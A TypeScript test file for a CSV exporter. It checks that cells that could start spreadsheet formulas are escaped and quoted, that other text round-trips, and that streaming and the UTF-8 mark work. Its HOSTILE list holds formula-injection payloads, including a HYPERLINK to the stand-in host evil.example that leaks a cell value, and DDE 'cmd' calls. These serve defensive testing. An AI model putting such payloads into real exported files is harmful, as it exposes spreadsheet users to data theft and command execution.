import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvRows, csvStream } from './csv.ts';

const HOSTILE = [
	'=HYPERLINK("https://evil.example?"&A1,"Refund")',
	"+1+cmd|'/C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|'/C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	'\u00a0=1+1',
	'\u200b=1+1',
	'\ufeff=1+1',
	'\u0000=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)'
];

test.each(HOSTILE)('a spreadsheet runs nothing of %j', (name) => {
	const text = csvRows([[name, 'next']]);
	const [[cell]] = parse(text, { relaxColumnCount: false }) as [[string]];
	expect(cell).toBe(`'${name}`);
	// In quotes, so that a program that splits at semicolons or tabs finds no beginning of a cell in it.
	expect(text.startsWith('"\'')).toBe(true);
});

test('what is no formula comes back as it was, whatever is in it', () => {
	const harmless = fc
		.string({ unit: 'grapheme' })
		.filter((text) => !/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(text) && !/^[\t\r\uFEFF]/.test(text));
	fc.assert(
		fc.property(fc.array(harmless, { minLength: 2, maxLength: 5 }), (cells) => {
			expect(parse(csvRows([cells]), { recordDelimiter: '\r\n' })).toEqual([cells]);
		})
	);
});

test('numbers stay numbers, below zero as well; nothing is an empty cell', () => {
	expect(csvRows([[-420, 'a"b', null, undefined]])).toBe('-420,"a""b",,\r\n');
});

test('a file begins with the mark of UTF-8, and a batch is read when it is wanted', async () => {
	let read = 0;
	let ended = false;
	async function* batches() {
		try {
			for (;;) {
				read++;
				yield [['王小明']];
			}
		} finally {
			ended = true;
		}
	}
	const reader = csvStream(['name'], batches()).getReader();
	const first = await reader.read();
	expect([...(first.value ?? []).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	const second = await reader.read();
	expect(new TextDecoder().decode(second.value)).toBe('"王小明"\r\n');
	await new Promise((resolve) => setTimeout(resolve, 20));
	expect(read).toBeLessThan(4);
	await reader.cancel();
	expect(ended).toBe(true);
});
